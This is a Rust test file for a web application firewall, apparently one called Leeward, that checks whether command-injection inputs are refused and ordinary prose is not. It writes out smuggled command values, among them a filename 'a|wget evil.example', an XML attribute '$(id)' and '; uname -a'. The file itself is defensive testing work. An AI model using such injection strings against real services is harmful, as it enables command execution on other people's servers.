//! What takes the place of the expensive rules.

use super::*;

const COMMANDS: &str = include_str!("../../../../tests/corpus/waf/commands.txt");
const PROSE: &str = include_str!("../../../../tests/corpus/waf/prose.txt");

fn lines(text: &'static str) -> impl Iterator<Item = String> {
    text.lines().filter(|line| !line.starts_with('#')).map(|line| line.replacen("\\n", "\n", 1))
}

/// As the value of an argument, which is in the middle of others.
fn carried(text: &str) -> Request {
    let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    post(FORM, format!("a=1&q={encoded}&b=2").as_bytes())
}

/// Ids of Leeward's own rules among those that matched.
fn own(verdict: &Verdict) -> Vec<u32> {
    verdict.rules.iter().copied().filter(|rule| (7_700_000..7_800_000).contains(rule)).collect()
}

#[test]
fn commands_are_refused_whatever_separates_them_and_where_their_letters_are_quoted() {
    let off = load(&Plan { redos_guard: false, ..plan() }).unwrap();
    let (mut all, mut without_guard, mut passed) = (0, 0, Vec::new());
    for command in lines(COMMANDS) {
        let request = carried(&command);
        all += 1;
        without_guard += usize::from(off.inspect(&request).unwrap().refuse);
        let got = judge(&request);
        if !got.refuse {
            passed.push(command);
        }
    }
    println!(
        "{} of {all} commands refused; by the Core Rule Set without the guard: {without_guard}",
        all - passed.len()
    );
    assert!(all > 160 && passed.is_empty(), "{passed:#?}");
    // also in the name of an upload, and in an XML attribute
    let upload =
        "--xx\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a|wget evil.example\"\r\n\r\nb\r\n--xx--\r\n";
    let xml = "<a b='$(id)'/>";
    for (content_type, body) in [("multipart/form-data; boundary=xx", upload), ("text/xml", xml)] {
        assert_eq!(own(&judge(&post(content_type, body.as_bytes()))), [7_700_013], "{body}");
    }
}

#[test]
fn words_that_are_commands_as_well_are_no_commands_in_everyday_language() {
    let off = load(&Plan { redos_guard: false, ..plan() }).unwrap();
    let (mut all, mut refused, mut without_guard) = (0, 0, 0);
    for text in lines(PROSE) {
        let request = carried(&text);
        all += 1;
        without_guard += usize::from(off.inspect(&request).unwrap().refuse);
        let got = judge(&request);
        refused += usize::from(got.refuse);
        assert_eq!(own(&got), [0; 0], "{text}");
    }
    println!("{refused} of {all} texts refused, all by the Core Rule Set; without the guard {without_guard}");
    assert!(all > 130 && refused <= without_guard, "{refused}");
}

#[test]
fn without_the_guard_the_rules_are_those_of_the_core_rule_set_alone() {
    let off = load(&Plan { redos_guard: false, ..plan() }).unwrap();
    let request = carried("; uname -a");
    assert_eq!(own(&judge(&request)), [7_700_020]);
    let got = off.inspect(&request).unwrap();
    assert!(got.refuse && own(&got).is_empty(), "{got:?}");
}
